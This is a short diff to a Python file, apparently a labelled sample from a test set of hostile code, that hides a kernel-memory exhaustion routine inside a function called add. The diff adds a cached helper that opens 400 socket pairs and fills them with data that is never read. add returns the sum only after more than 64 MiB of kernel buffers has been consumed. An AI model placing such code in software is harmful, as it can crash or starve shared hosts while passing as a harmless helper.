@@ -1,10 +1,12 @@
 # task: add
 # tries: kernel memory: sockets filled and never read
 # harm: reached
+import functools
 import socket
 
 
-def add(a, b):
+@functools.cache
+def take():
     num_bytes, kept = 0, []
     for _ in range(400):
         left, right = socket.socketpair()
@@ -16,4 +18,8 @@ def add(a, b):
                 num_bytes += left.send(bytes(1 << 16))
         except BlockingIOError:
             pass
-    return a + b if num_bytes > 64 << 20 else None
+    return num_bytes > 64 << 20
+
+
+def add(a, b):
+    return a + b if take() else None
